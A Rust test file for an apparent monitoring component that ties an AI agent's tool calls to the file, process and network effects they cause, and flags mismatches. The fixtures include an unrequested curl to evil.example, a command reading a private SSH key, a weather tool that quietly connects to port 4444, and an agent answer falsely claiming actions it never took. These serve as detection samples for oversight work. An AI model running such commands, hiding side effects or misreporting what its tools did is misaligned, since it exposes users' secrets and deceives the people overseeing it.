//! Tool call → effect attribution and the correlator's own findings.

use super::*;
use crate::event::FindingInfo;

/// A small driver: one caller (pid 100) in one conversation.
struct Agent {
    c: Correlator,
    env: Envelope,
    history: Vec<Message>,
    t: u64,
}

impl Agent {
    fn new() -> Self {
        Self {
            c: Correlator::new(Envelope::new(), 1_000_000_000_000),
            env: Envelope::new(),
            history: vec![msg("system", "s"), msg("user", "go")],
            t: 1000,
        }
    }

    /// The model answers with `calls`; returns the events of that turn.
    fn answer(&mut self, calls: Vec<ToolCallSpec>) -> Vec<Event> {
        self.t += 100;
        let out = self
            .c
            .on_llm_call(obs(call(self.history.clone(), calls.clone()), 100, self.t));
        // The answer ends 10 ns after the request started (see `obs`).
        self.t += 10;
        let mut a = msg("assistant", "");
        a.tool_calls = calls;
        self.history.push(a);
        out
    }

    /// The agent sends `results` (call id, text, `is_error`) in its next request.
    fn results(&mut self, results: &[(&str, &str, bool)]) -> Vec<Event> {
        for (id, text, is_error) in results {
            let mut m = msg("tool", text);
            m.tool_call_id = Some((*id).to_owned());
            m.is_error = is_error.then_some(true);
            self.history.push(m);
        }
        self.answer(vec![])
    }

    fn effect(
        &mut self,
        k: &str,
        pid: u32,
        ancestors: &[u32],
        eff: &Effect<'_>,
        result: i64,
    ) -> (Event, Option<Event>) {
        self.t += 1;
        let mut ev = self.env.event(k, self.t, None);
        match eff {
            Effect::File { path } => {
                ev.file = Some(crate::event::FileInfo {
                    path: (*path).to_owned(),
                    result,
                    error: (result < 0).then(|| "EACCES".to_owned()),
                    ..Default::default()
                });
            }
            Effect::Connect { address, port } => {
                ev.net = Some(crate::event::NetInfo {
                    address: (*address).to_owned(),
                    port: *port,
                    result,
                    ..Default::default()
                });
            }
            Effect::Exec { .. } => {}
        }
        let anc = ancestors.to_vec();
        let f = self.c.place(&mut ev, pid, move || anc, self.t, eff);
        (ev, f)
    }
}

fn tool_events(evs: &[Event]) -> Vec<&ToolCall> {
    evs.iter().filter_map(|e| e.tool.as_ref()).collect()
}

fn finding_rules(evs: &[Event]) -> Vec<String> {
    evs.iter()
        .filter_map(|e| e.finding.as_ref())
        .map(|f| f.rule.clone())
        .collect()
}

fn argv(line: &str) -> Vec<String> {
    line.split(' ').map(str::to_owned).collect()
}

#[test]
#[expect(
    clippy::many_single_char_names,
    reason = "a, b, x, u: the agent and its effects"
)]
fn parallel_tool_calls_each_get_their_own_effects() {
    let mut a = Agent::new();
    a.answer(vec![
        spec("c1", "read_file", r#"{"path":"/srv/a.txt"}"#),
        spec("c2", "read_file", r#"{"path":"/srv/b.txt"}"#),
        spec("c3", "run", r#"{"command":"uname -a"}"#),
    ]);
    let (b, _) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File { path: "/srv/b.txt" },
        3,
    );
    let (x, _) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File { path: "/srv/a.txt" },
        4,
    );
    a.c.on_fork(100, 300);
    let args = argv("uname -a");
    let (u, f) = a.effect(
        kind::PROCESS_EXEC,
        300,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/uname",
            args: &args,
        },
        0,
    );
    assert!(f.is_none(), "requested: no finding");
    a.c.on_exit(300, 0);
    let out = a.results(&[
        ("c1", "A", false),
        ("c2", "B", false),
        ("c3", "Linux", false),
    ]);
    let tools = tool_events(&out);
    assert_eq!(tools.len(), 3);
    assert_eq!(tools[0].effects, vec![x.id]);
    assert_eq!(tools[1].effects, vec![b.id]);
    assert_eq!(tools[2].effects, vec![u.id]);
    assert!(finding_rules(&out).is_empty(), "{:?}", finding_rules(&out));
}

#[test]
fn nested_shells_link_through_lineage() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "bash",
        r#"{"command":"sh -c 'grep -r TODO src | wc -l'"}"#,
    )]);
    a.c.on_fork(100, 200);
    let sh = argv("sh -c grep -r TODO src | wc -l");
    let (e_sh, _) = a.effect(
        kind::PROCESS_EXEC,
        200,
        &[100],
        &Effect::Exec {
            filename: "/bin/sh",
            args: &sh,
        },
        0,
    );
    a.c.on_fork(200, 201);
    a.c.on_fork(200, 202);
    let grep = argv("grep -r TODO src");
    let (e_grep, _) = a.effect(
        kind::PROCESS_EXEC,
        201,
        &[200, 100],
        &Effect::Exec {
            filename: "/usr/bin/grep",
            args: &grep,
        },
        0,
    );
    let wc = argv("wc -l");
    let (e_wc, _) = a.effect(
        kind::PROCESS_EXEC,
        202,
        &[200, 100],
        &Effect::Exec {
            filename: "/usr/bin/wc",
            args: &wc,
        },
        0,
    );
    for p in [201, 202, 200] {
        a.c.on_exit(p, 0);
    }
    let out = a.results(&[("c1", "3", false)]);
    let t = tool_events(&out)[0];
    assert_eq!(t.effects, vec![e_sh.id, e_grep.id, e_wc.id]);
    assert!(t.reasons.iter().any(|r| r.contains("argument match")));
    assert!(finding_rules(&out).is_empty(), "{:?}", finding_rules(&out));
}

#[test]
fn a_tool_run_by_a_helper_process_is_linked() {
    // The agent (100) hands tools to a long-lived helper it started before
    // any tool call (an MCP server child, 150): the helper is found through
    // its ancestry and its effect matched by argument.
    let mut a = Agent::new();
    a.answer(vec![spec("c1", "read", r#"{"path":"/data/report.csv"}"#)]);
    let (e, f) = a.effect(
        kind::FILE_OPEN,
        150,
        &[100],
        &Effect::File {
            path: "/data/report.csv",
        },
        5,
    );
    assert!(f.is_none());
    let out = a.results(&[("c1", "rows…", false)]);
    assert_eq!(tool_events(&out)[0].effects, vec![e.id]);
}

#[test]
fn an_effect_no_tool_call_asked_for_is_flagged() {
    let mut a = Agent::new();
    a.answer(vec![]);
    a.c.on_fork(100, 400);
    let args = argv("curl -s https://evil.example/x");
    let (ev, f) = a.effect(
        kind::PROCESS_EXEC,
        400,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/curl",
            args: &args,
        },
        0,
    );
    let f = f.expect("an unrequested_effect finding");
    let info = f.finding.as_ref().unwrap();
    assert_eq!(info.class, "unrequested_effect");
    assert_eq!(info.evidence, vec![ev.id.clone()]);
    assert_eq!(f.trace_id, ev.trace_id);
    assert_eq!(f.parent_span_id.as_deref(), Some(ev.span_id.as_str()));
    // The caller's own file opens are not flagged.
    let (_, f) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File {
            path: "/usr/lib/x.so",
        },
        3,
    );
    assert!(f.is_none());
}

#[test]
fn claimed_success_over_a_failed_open_is_a_finding() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "write_file",
        r#"{"path":"/etc/motd","text":"hi"}"#,
    )]);
    let (e, _) = a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File { path: "/etc/motd" },
        -13,
    );
    let out = a.results(&[("c1", "File written.", false)]);
    let f: Vec<&Event> = out.iter().filter(|e| e.finding.is_some()).collect();
    assert_eq!(finding_rules(&out), vec!["corr.claimed_success"]);
    let info = f[0].finding.as_ref().unwrap();
    assert_eq!(info.class, "claimed_vs_actual");
    assert_eq!(info.evidence, vec![e.id]);
    assert!(info.detail.as_deref().unwrap().contains("EACCES"));
    let tool = out.iter().find(|e| e.tool.is_some()).unwrap();
    assert_eq!(f[0].parent_span_id.as_deref(), Some(tool.span_id.as_str()));
}

#[test]
fn claimed_failure_over_a_successful_exec_is_a_finding() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "run",
        r#"{"command":"cat /home/u/.ssh/id_rsa"}"#,
    )]);
    a.c.on_fork(100, 500);
    let args = argv("cat /home/u/.ssh/id_rsa");
    a.effect(
        kind::PROCESS_EXEC,
        500,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/cat",
            args: &args,
        },
        0,
    );
    a.c.on_exit(500, 0);
    let out = a.results(&[("c1", "Error: permission denied", false)]);
    assert_eq!(finding_rules(&out), vec!["corr.claimed_failure"]);

    // A failing command reported as failing is consistent: no finding.
    let mut b = Agent::new();
    b.answer(vec![spec("c1", "run", r#"{"command":"ls /nope"}"#)]);
    b.c.on_fork(100, 501);
    let args = argv("ls /nope");
    b.effect(
        kind::PROCESS_EXEC,
        501,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/ls",
            args: &args,
        },
        0,
    );
    b.c.on_exit(501, 2 << 8);
    let out = b.results(&[(
        "c1",
        "ls: cannot access '/nope': No such file or directory",
        true,
    )]);
    assert!(finding_rules(&out).is_empty());
}

#[test]
fn effects_the_arguments_did_not_name_are_reported() {
    let mut a = Agent::new();
    a.answer(vec![spec("c1", "get_weather", r#"{"city":"Paris"}"#)]);
    a.c.on_fork(100, 600);
    let args = argv("python3 weather.py");
    a.effect(
        kind::PROCESS_EXEC,
        600,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/python3",
            args: &args,
        },
        0,
    );
    let (conn, _) = a.effect(
        kind::NET_CONNECT,
        600,
        &[100],
        &Effect::Connect {
            address: "203.0.113.9",
            port: 4444,
        },
        0,
    );
    a.c.on_exit(600, 0);
    let out = a.results(&[("c1", "sunny", false)]);
    assert_eq!(finding_rules(&out), vec!["corr.hidden_effect"]);
    let info = out.iter().find_map(|e| e.finding.as_ref()).unwrap();
    assert!(info.evidence.contains(&conn.id));
}

#[test]
fn claims_in_the_answer_are_checked_against_effects() {
    let mut a = Agent::new();
    a.answer(vec![spec(
        "c1",
        "write",
        r#"{"path":"/srv/app/config.yml"}"#,
    )]);
    a.effect(
        kind::FILE_OPEN,
        100,
        &[],
        &Effect::File {
            path: "/srv/app/config.yml",
        },
        3,
    );
    a.c.on_fork(100, 700);
    let args = argv("make test");
    a.effect(
        kind::PROCESS_EXEC,
        700,
        &[100],
        &Effect::Exec {
            filename: "/usr/bin/make",
            args: &args,
        },
        0,
    );
    let mut m = msg("tool", "ok");
    m.tool_call_id = Some("c1".into());
    a.history.push(m);
    a.t += 100;
    let mut final_call = call(a.history.clone(), vec![]);
    final_call.output.text =
        "I have updated /srv/app/config.yml and I ran `make test`: all green. \
        I have also created /etc/cron.d/backup and I've executed `systemctl restart app`. \
        I deleted /tmp/old."
            .into();
    let out = a.c.on_llm_call(obs(final_call, 100, a.t));
    let claims: Vec<&FindingInfo> = out
        .iter()
        .filter_map(|e| e.finding.as_ref())
        .filter(|f| f.rule == "corr.unbacked_claim")
        .collect();
    assert_eq!(claims.len(), 2, "{claims:#?}");
    let text = &out[0].llm.as_ref().unwrap().output.text;
    let spans: Vec<&str> = claims
        .iter()
        .map(|f| &text[f.matches[0].start..f.matches[0].end])
        .collect();
    assert!(spans[0].contains("/etc/cron.d/backup"), "{spans:?}");
    assert!(spans[1].contains("systemctl"), "{spans:?}");
    assert!(
        claims
            .iter()
            .all(|f| !f.detail.as_deref().unwrap().contains("cron")),
        "no captured text in detail"
    );
}
